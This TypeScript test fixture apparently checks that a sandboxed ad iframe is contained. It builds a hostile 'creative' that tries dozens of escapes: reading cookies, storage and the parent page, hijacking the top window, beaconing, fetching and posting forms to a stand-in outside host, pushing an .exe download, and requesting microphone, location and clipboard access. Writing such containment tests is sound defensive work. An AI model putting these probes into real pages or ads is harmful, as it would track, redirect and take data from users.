type Tools = ReturnType<typeof tools>;

/** What a hostile creative tries, one after another. What it gets by that, it tells; most get nothing and throw. */
export const attempts: Record<string, (tools: Tools) => unknown> = {
  'read cookies': () => document.cookie,
  'set a cookie': () => {
    // biome-ignore lint/suspicious/noDocumentCookie: a creative would
    document.cookie = 'a=b';
    return document.cookie;
  },
  'read what the site keeps': () => localStorage.getItem('reader'),
  'keep something': () => {
    sessionStorage.setItem('a', 'b');
    return sessionStorage.getItem('a');
  },
  'open a database': ({ when }) => when(indexedDB.open('a'), 'success'),
  'use the cache': () => caches.open('a'),
  'read the page around it': () => parent !== window && parent.document.documentElement.outerHTML,
  'read the page above it': () => top !== window && top?.document.documentElement.outerHTML,
  'see its own frame': () => window.frameElement?.outerHTML,
  'see where the page is': () => top !== window && top?.location.href,
  'call the page': () => parent !== window && parent.print(),
  'take the name of the site': () => {
    document.domain = location.hostname;
    return 'taken';
  },
  'take the page away': ({ other }) => {
    if (top && top !== window) top.location.href = `${other}/top`;
  },
  'take the page away by a link': ({ click, other }) =>
    top !== window && click(`<a target="_top" href="${other}/top-link">x</a>`),
  'open a window': ({ other }) => window.open(`${other}/window`),
  'open a window of the site': () => window.open('/'),
  'open a window by a link': ({ click, other }) => click(`<a target="_blank" href="${other}/blank">x</a>`),
  'ask the reader': () => {
    alert('alert');
    prompt('prompt');
    print();
  },
  'fetch the site': ({ own }) => fetch(`${own}/`),
  'fetch itself': () => fetch(location.href, { mode: 'no-cors' }),
  'fetch elsewhere': ({ other }) => fetch(`${other}/fetch`),
  'fetch elsewhere blindly': ({ other }) => fetch(`${other}/blind`, { mode: 'no-cors' }),
  'ask by XMLHttpRequest': ({ other, when }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${other}/xhr`);
    request.send();
    return when(request, 'load');
  },
  'open a socket': ({ other, when }) => when(new WebSocket(`${other.replace('http', 'ws')}/socket`), 'open'),
  'listen elsewhere': ({ other, when }) => when(new EventSource(`${other}/events`), 'open'),
  'send a beacon': ({ other }) => void navigator.sendBeacon(`${other}/beacon`, 'x'),
  'ping by a link': ({ click, other }) => click(`<a href="#x" ping="${other}/ping">x</a>`),
  'show an image of elsewhere': ({ loads, other }) => loads(`<img src="${other}/image.png">`),
  'show an image of the site': ({ loads, own }) => loads(`<img src="${own}/favicon.svg">`),
  'play a video of elsewhere': ({ loads, other }) =>
    loads(`<video src="${other}/video.mp4" autoplay></video>`),
  'load a stylesheet': ({ loads, other }) => loads(`<link rel="stylesheet" href="${other}/style.css">`),
  'load from a stylesheet': ({ add, other }) =>
    add(`<style>@import "${other}/import.css"; @font-face { font-family: f; src: url(${other}/font.woff2) }
      i { font-family: f; background: url(${other}/background.png); cursor: url(${other}/cursor.png), auto }</style><i>x</i>`),
  'load a script of elsewhere': ({ script, other }) => script(`${other}/script.js`),
  'load a script of the site': ({ script, own }) => script(`${own}/assets/x.js`),
  'load a module': ({ other }) => import(/* @vite-ignore */ `${other}/module.js`),
  'load a module of data': () => import(/* @vite-ignore */ `data:text/javascript,${'export default 1'}`),
  'frame elsewhere': ({ add, other }) => add(`<iframe src="${other}/frame"></iframe>`),
  'frame the site': ({ add, own }) => add(`<iframe src="${own}/"></iframe>`),
  'ask from a frame of its own': ({ add, other }) =>
    add(
      `<iframe srcdoc="<img src=${other}/srcdoc.png><meta http-equiv=refresh content='0;url=${other}/srcdoc'>"></iframe>`,
    ),
  'embed elsewhere': ({ add, other }) =>
    add(`<object data="${other}/object"></object><embed src="${other}/embed">`),
  'fetch ahead': ({ add, other }) =>
    add(
      ['prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest']
        .map((rel) => `<link rel="${rel}" as="script" href="${other}/${rel}">`)
        .join(''),
    ),
  'fetch ahead by rules': ({ own, other }) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`${other}/rules`] }],
      prerender: [{ source: 'list', urls: [`${own}/imprint`] }],
    });
    document.body.append(rules);
  },
  'start from elsewhere': ({ loads, other }) => loads(`<base href="${other}/"><img src="base.png">`),
  'send a form elsewhere': ({ submit, other }) =>
    submit(`<form method="post" action="${other}/form"><input name="a" value="b"></form>`),
  'send a form to the site': ({ submit, own }) =>
    submit(`<form method="post" action="${own}/api/subscriptions"></form>`),
  'send a form to a window': ({ submit, other }) =>
    submit(`<form target="_blank" action="${other}/form-window"></form>`),
  'hand over a file': ({ click }) =>
    click('<a download="x.exe" href="data:application/octet-stream,MZ">x</a>'),
  'work in the background': ({ when }) =>
    when(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'),
  'settle in the background': () => navigator.serviceWorker.register(location.href),
  'find the reader': () =>
    new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)),
  'hear the reader': () => navigator.mediaDevices.getUserMedia({ audio: true }),
  'read the clipboard': () => navigator.clipboard.readText(),
  'write to the clipboard': () => navigator.clipboard.writeText('x').then(() => 'written'),
  'disturb the reader': async () => (await Notification.requestPermission()) === 'granted',
  'fill the screen': () => document.documentElement.requestFullscreen().then(() => 'filled'),
  'catch the pointer': () => document.documentElement.requestPointerLock(),
};

/** How a creative leaves for good: each is tried alone. */
export const exits: Record<string, (tools: Tools) => unknown> = {
  'by its address': ({ other }) => location.assign(`${other}/exit`),
  'by a link': ({ click, other }) => click(`<a href="${other}/exit">x</a>`),
  'by a refresh': ({ add, other }) => add(`<meta http-equiv="refresh" content="0;url=${other}/exit">`),
  'to a page of the site': ({ own }) => location.assign(`${own}/imprint`),
};

/** Runs in the creative: what attempts are made with. */
function tools(own: string, other: string) {
  const add = (html: string): void => {
    document.body.append(document.createRange().createContextualFragment(html));
  };
  const last = () => document.body.lastElementChild as HTMLElement & { submit: () => void };
  const when = (target: EventTarget, event: string) =>
    new Promise((done, failed) => {
      target.addEventListener(event, done);
      target.addEventListener('error', failed);
    });
  return {
    ...{ own, other, add, when },
    click: (html: string): void => {
      add(html);
      last().click();
    },
    submit: (html: string): void => {
      add(html);
      last().submit();
    },
    loads: (html: string) => {
      add(html);
      return when(last(), last().localName === 'video' ? 'loadeddata' : 'load');
    },
    script: (src: string) => {
      const element = document.createElement('script');
      element.src = src;
      document.body.append(element);
      return when(element, 'load');
    },
  };
}

/**
 * Runs in the creative: tries everything, one after another, and tells what it got. Most that get nothing are never
 * answered, so none is waited for long; what comes late is told all the same.
 */
async function tryAll(all: typeof attempts, made: Tools) {
  const told: Record<string, string> = {};
  const makeOne = async (name: string, attempt: (tools: Tools) => unknown) => {
    told[name] = 'nothing';
    const got = await attempt(made);
    if (!got) return;
    told[name] = `got ${got}`;
    (window as unknown as { won?: (name: string) => void }).won?.(name);
  };
  for (const [name, attempt] of Object.entries(all)) {
    const later = new Promise((over) => setTimeout(over, 300));
    await Promise.race([makeOne(name, attempt).catch(() => {}), later]);
  }
  Object.assign(window, { told });
}

const inside = (all: typeof attempts) =>
  `{${Object.entries(all).map(([name, attempt]) => `${JSON.stringify(name)}: ${attempt}`)}}`;

/** A document that makes these attempts. It knows the site, and somewhere else. */
export const creative = (own: string, other: string, all: typeof attempts) =>
  `<!DOCTYPE html><meta charset="utf-8"><title>বিজ্ঞাপন</title><body><p>ছাড়</p><script>
(${tryAll})(${inside(all)}, (${tools})(${JSON.stringify(own)}, ${JSON.stringify(other)}));
</script>`;
